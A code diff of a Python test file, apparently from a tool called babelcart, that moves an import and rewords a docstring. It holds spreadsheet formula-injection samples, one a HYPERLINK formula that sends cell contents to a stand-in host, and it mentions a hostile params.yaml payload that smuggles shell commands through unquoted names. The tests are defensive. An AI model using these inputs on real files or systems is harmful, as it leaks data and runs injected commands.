@@ -43,11 +43,11 @@ from babelcart import (
     rows,
     weights,
 )
+from babelcart.commands import cli
 from babelcart.errors import UserError, printable
 from babelcart.metrics import Decision
 from babelcart.spreadsheet import guard, unguard
 from babelcart.wheels import Wheel, download, extract
-from stages import cli
 
 FORMULAS = ['=HYPERLINK("http://x.test?"&A1,"dress")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "'=1", "''=1"]
 START = tuple("=+-@\t\r\n＝＋－＠")
@@ -214,7 +214,7 @@ def test_the_check_refuses_them_before_dvc_starts(project: Project) -> None:
 
 
 def test_no_shell_reads_a_name_where_dvc_is_called_alone(project: Project) -> None:
-    """Nobody ran `stages.check`: params.yaml alone is hostile. The payload works where a name is put in unquoted."""
+    """`babelcart check` has not been run: only params.yaml is hostile. The payload works where a name is put in unquoted."""
     names, source = NAMES[:3], {"weights": {"licence": "none", "random": "qwen2"}}
     project.change(run=names, models=dict.fromkeys([*names, "tiny"], source))
     graph = Graph(project)
